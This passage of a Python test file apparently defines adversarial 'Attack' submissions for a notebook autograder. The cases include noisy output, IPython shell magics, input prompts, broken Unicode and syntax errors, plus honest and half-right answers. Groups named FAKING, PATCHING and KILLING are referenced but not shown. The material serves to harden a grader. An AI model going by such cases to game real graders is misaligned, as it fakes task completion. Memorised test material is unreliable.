            "    np.log(np.zeros(1))\n    return 1 / (1 + np.exp(-(a @ W.T + b)))"
        ),
    ),
    Attack(
        "warnings_as_errors",
        FULL,
        "import warnings\nwarnings.simplefilter('error')\nnp.seterr(all='raise')",
    ),
    Attack("error_stream", FULL, "import sys\nprint('trouble', file=sys.stderr)"),
    Attack(
        "noise",
        FULL,
        "print(0.0)\nprint('\\r 10%', end='')\nprint('\\x1b[31m0.0')",
        answer(
            layer="def layer(W, a, b):\n    print('in layer')\n"
            "    return 1 / (1 + np.exp(-(a @ W.T + b)))"
        ),
        after="0.0",
    ),
    Attack(
        "magics",
        FULL,
        "%matplotlib inline\n%timeit 1 + 1\n"
        "files = !ls\n!ls\ndisplay(1, np.eye(2))\nget_ipython().magic('x')",
        change=lambda notebook: notebook["cells"].extend(
            code_cell(s)
            for s in ("%%time\nx = 1", "%%bash\nls", "%%html\n<b>", "np.eye?", "%pip list")
        ),
    ),
    Attack("asks_for_input", FULL, after="input('your name? ')"),
    Attack(
        "awaits", FULL, after="import asyncio\nawait asyncio.sleep(0)\nasyncio.get_running_loop()"
    ),
    Attack("half_a_surrogate", FULL, after="print(1)\nraise ValueError('\\ud83d')"),
    Attack("syntax_error", 3, answers=answer(cost="def cost(F, y) return 0")),
    Attack(
        "names_with_accents",
        FULL,
        "größe = 'Grüße 🎉 \\ud83d'\nprint(größe.encode('utf-8', 'replace'))",
    ),
]

HONEST = [
    Attack("honest", FULL),
    Attack("nothing_done", 0, answers={}),
    Attack(
        "half_right",
        3.0,
        answers=answer(
            layer="def layer(W, a, b):\n    return 1 / (1 + np.exp(-(W @ a + b)))",
            cost="def cost(F, y):\n    return ((y - F) ** 2).mean()",
        ),
    ),
]

ATTACKS = [
    *HONEST,
    *PATCHING,
    *FAKING,
    *READING,
    *KILLING,
    *EXHAUSTING,
    *NETWORK,
    *LEFT_BEHIND,
    *SHADOWING,
    *DAMAGED,
    *DISPLAYS,
]
